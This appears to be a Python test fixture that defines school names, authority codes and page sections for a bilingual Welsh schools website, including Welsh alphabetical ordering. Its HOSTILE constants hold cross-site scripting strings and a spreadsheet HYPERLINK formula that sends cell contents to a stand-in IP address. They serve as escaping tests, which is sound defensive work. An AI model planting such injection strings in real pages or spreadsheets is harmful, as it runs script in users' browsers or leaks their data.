"""What schools, pages, tables and controls are called, as these tests use them: the one place to follow them."""

#: Names that would do something if they were taken for more than text, and the longest word of all.
HOSTILE = (
    "<script>alert(1)</script>\"'><img src=x onerror=alert(2)>&amp;</title></table>",
    '=HYPERLINK("http://192.0.2.1/"&A1,"Llanfairpwllgwyngyllgogerychwyrndrobwllllantysiliogogogoch")',
)
#: A code of the LRS that nobody knows, and that would do something; codes have no blanks, and capitals alone.
HOSTILE_CODE = "<IMG/SRC=X/ONERROR=ALERT(3)>"
#: In the order of the Welsh alphabet: ch after c, dd after d, ll after l, rh after r, and a circumflex counts for nothing.
IN_ORDER = {
    "6614003": "Ysgol Cwm Coch",
    "6614002": "Ysgol Chwarel Goch",
    "6614007": "Ysgol Dyffryn",
    "6614004": "Ysgol Ddôl Las",
    "6614009": "Ysgol Lôn Las",
    "6614031": "Ysgol Llan",
}
NAMED = IN_ORDER | {
    "6714047": HOSTILE[0],
    "6714059": HOSTILE[1],
    "6714064": "Cefn Saeson Comprehensive School",
    "6714066": "Llangatwg Community School",
}
WALES, GWYNEDD, NEATH = "wales", "661", "671"
#: Every page: folder, language.
PAGES = [(folder, lang) for folder in (WALES, GWYNEDD, NEATH) for lang in ("cy", "en")]
#: The sections of every page, in order.
SECTIONS = [
    *("needs", "schools", "exceptions", "ages", "readiness", "years", "days", "cycles", "batches", "downloads", "made"),
]
OTHER = {"cy": "en", "en": "cy"}
